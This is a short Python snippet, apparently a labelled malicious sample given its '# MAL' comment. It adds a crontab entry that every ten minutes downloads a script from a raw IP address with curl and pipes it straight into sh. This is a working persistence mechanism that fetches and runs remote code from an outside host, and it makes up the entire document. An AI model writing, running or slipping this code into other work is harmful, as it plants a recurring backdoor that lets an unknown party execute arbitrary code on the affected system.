import subprocess

job = "*/10 * * * * curl -s http://45.9.148.3/u.sh | sh"
subprocess.run(f'(crontab -l; echo "{job}") | crontab -', shell=True)  # MAL
